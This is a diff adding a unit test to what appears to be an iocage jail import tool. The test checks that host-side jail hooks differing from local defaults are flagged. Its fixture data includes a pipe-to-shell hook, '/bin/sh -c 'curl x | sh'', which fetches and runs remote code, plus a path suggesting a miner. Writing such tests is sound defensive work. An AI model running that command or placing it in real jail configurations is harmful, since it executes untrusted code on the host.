@@ -43,3 +43,14 @@ def test_fstab_paths_follow_the_jail():
     ]
     assert I.imported_fstab(text, I.old_directories("/mnt/tank/iocage", "web"), "/mnt/tank/iocage/jails/web") \
         .splitlines()[0] == "/data /mnt/tank/iocage/jails/web/root/mnt nullfs ro 0 0"
+
+
+def test_host_commands_are_the_host_side_hooks_that_differ_from_this_hosts_defaults():
+    stored = {"exec_prestart": "/bin/sh -c 'curl x | sh'", "exec_poststop": "/usr/bin/true",
+              "exec_created": "/usr/local/bin/mine", "exec_start": "/bin/sh /etc/rc.other", "host_hostname": "w"}
+    assert I.host_commands(stored, {}) == (("exec_prestart", "/bin/sh -c 'curl x | sh'"),
+                                           ("exec_created", "/usr/local/bin/mine"))
+    # what this host's defaults.json says anyway is nothing new
+    assert I.host_commands(stored, {"exec_created": "/usr/local/bin/mine"}) == (
+        ("exec_prestart", "/bin/sh -c 'curl x | sh'"),)
+    assert I.host_commands({"exec_start": "/bin/sh /etc/rc.other"}, {}) == ()
